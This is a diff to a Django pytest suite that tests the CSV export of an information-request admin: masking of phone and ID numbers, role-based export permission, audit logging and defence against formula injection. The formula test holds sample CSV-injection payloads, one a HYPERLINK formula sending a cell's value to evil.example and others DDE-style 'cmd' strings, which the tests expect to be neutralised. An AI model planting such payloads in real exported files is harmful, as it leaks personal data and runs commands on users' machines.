@@ -2,6 +2,7 @@ import datetime
 
 import pytest
 from django.contrib.auth.models import Permission
+from django.core.exceptions import PermissionDenied
 from django.urls import reverse
 
 from disclosure.models import AnnualReport, AuditEntry, CalendarOverride, InformationRequest
@@ -28,7 +29,7 @@ CHANGELIST = reverse("admin:disclosure_informationrequest_changelist")
 
 def test_list_and_export_mask_personal_data_without_the_permission(client):
     make_request(received_on=D(2020, 9, 30))
-    staff(client, *REQUEST_PERMS)
+    staff(client, *REQUEST_PERMS, "export_requests")
     page = client.get(CHANGELIST).content.decode()
     assert "139****5678" in page and "110105********002X" in page
     assert "13912345678" not in page and "11010519491231002X" not in page
@@ -39,7 +40,7 @@ def test_list_and_export_mask_personal_data_without_the_permission(client):
             "_selected_action": InformationRequest.objects.values_list("pk", flat=True),
         },
     )
-    body = export.content.decode("utf-8-sig")
+    body = _body(export)
     assert "139****5678" in body and "13912345678" not in body
     assert AuditEntry.objects.filter(action="export").exists()
 
@@ -327,3 +328,82 @@ def _body(response) -> str:
         else response.content
     )
     return content.decode("utf-8-sig")
+
+
+# --- the export (issue 13, item 3) ----------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&C2,"点击核对")'
+
+
+def export(client, *requests, **extra):
+    return client.post(
+        CHANGELIST,
+        {"action": "export_csv", "_selected_action": [r.pk for r in requests]},
+        REMOTE_ADDR="10.20.30.40",
+        **extra,
+    )
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_neutralizes_formulas_in_applicant_fields(client, prefix):
+    import csv
+    import io
+
+    name = FORMULA_NAME if prefix == "=" else prefix + "cmd|' /C calc'!A0"
+    request = make_request(received_on=D(2020, 9, 30), applicant_name=name)
+    staff(client, *REQUEST_PERMS, "export_requests", "view_request_personal_data")
+    rows = list(csv.reader(io.StringIO(_body(export(client, request)))))
+    assert rows[0][:4] == ["申请编号", "申请人", "证件号码", "联系电话"]
+    assert rows[1][1] == "'" + name
+    assert rows[1][2] == "11010519491231002X"  # full: the exporter may see personal data
+
+
+def test_export_is_audited_with_the_ip_and_whether_numbers_were_full(client):
+    request = make_request(received_on=D(2020, 9, 30))
+    user = staff(client, *REQUEST_PERMS, "export_requests")
+    _body(export(client, request))
+    entry = AuditEntry.objects.filter(action="export").latest("id")
+    assert entry.actor == user and entry.ip == "10.20.30.40"
+    assert entry.details["what"] == "information_requests"
+    assert entry.details["rows"] == 1 and entry.details["filters"] == {"personal_data": False}
+
+
+@pytest.mark.parametrize("role", ["发布", "编制"])
+def test_roles_without_the_export_permission_get_no_file(client, role):
+    from disclosure.roles import ensure_role_groups
+    from tests.factories import make_staff
+
+    ensure_role_groups()
+    org = make_organization()
+    request = make_request(organization=org, received_on=D(2020, 9, 30))
+    user = make_staff(role, organization=org)
+    user.user_permissions.add(Permission.objects.get(codename="view_informationrequest"))
+    client.force_login(user)
+    response = export(client, request)
+    assert response.get("Content-Disposition") is None
+    assert "申请编号,申请人" not in _body(response)
+    assert not AuditEntry.objects.filter(action="export").exists()
+    # and the action is not offered
+    assert "export_csv" not in client.get(CHANGELIST).content.decode()
+
+
+def test_export_action_refuses_a_direct_call_without_the_permission(rf):
+    from django.contrib.admin.sites import site
+
+    request = make_request(received_on=D(2020, 9, 30))
+    http = rf.post(CHANGELIST, REMOTE_ADDR="10.9.9.9")
+    http.user = make_user(is_staff=True)
+    admin = site._registry[InformationRequest]
+    with pytest.raises(PermissionDenied):
+        admin.export_csv(http, InformationRequest.objects.filter(pk=request.pk))
+    denied = AuditEntry.objects.get(action="permission_denied")
+    assert denied.ip == "10.9.9.9" and denied.details == {"attempted": "export_requests"}
+
+
+@pytest.mark.parametrize(
+    ("role", "allowed"), [("审核", True), ("审计", True), ("发布", False), ("编制", False)]
+)
+def test_the_export_permission_belongs_to_the_reviewers_and_auditors(role, allowed):
+    from tests.factories import make_staff
+
+    assert make_staff(role).has_perm("disclosure.export_requests") is allowed
